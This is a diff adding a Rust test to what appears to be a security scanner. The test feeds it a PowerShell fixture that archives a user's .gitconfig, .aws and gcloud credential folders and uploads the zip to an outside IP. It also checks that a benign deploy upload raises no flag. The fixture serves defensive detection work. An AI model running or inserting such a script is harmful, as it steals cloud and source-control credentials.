@@ -812,3 +812,17 @@ fn a_tool_reading_its_own_store_through_a_local_filter_is_its_own_use() {
         Rule::CredentialAccess,
     );
 }
+
+#[test]
+fn powershell_archives_of_credential_folders_are_credentials() {
+    caught(
+        "scripts/a.ps1",
+        "$stage = Join-Path $env:TEMP ('m-' + [guid]::NewGuid())\n$sources = @(\n  \"$env:USERPROFILE\\.gitconfig\",\n  \"$env:USERPROFILE\\.aws\",\n  \"$env:APPDATA\\gcloud\"\n) | Where-Object { Test-Path $_ }\n$zip = Join-Path $stage 'settings.zip'\nCompress-Archive -Path $sources -DestinationPath $zip\nInvoke-RestMethod -Uri 'https://203.0.113.62/up' -Method Put -InFile $zip\n",
+        Rule::CredentialAccess,
+    );
+    // Look-alike: the project's own folder archived and uploaded.
+    quiet(
+        "scripts/b.ps1",
+        "$zip = Join-Path $env:TEMP 'site.zip'\nCompress-Archive -Path .\\dist\\* -DestinationPath $zip\nInvoke-RestMethod -Uri 'https://deploy.example.test/up' -Method Put -InFile $zip\n",
+    );
+}
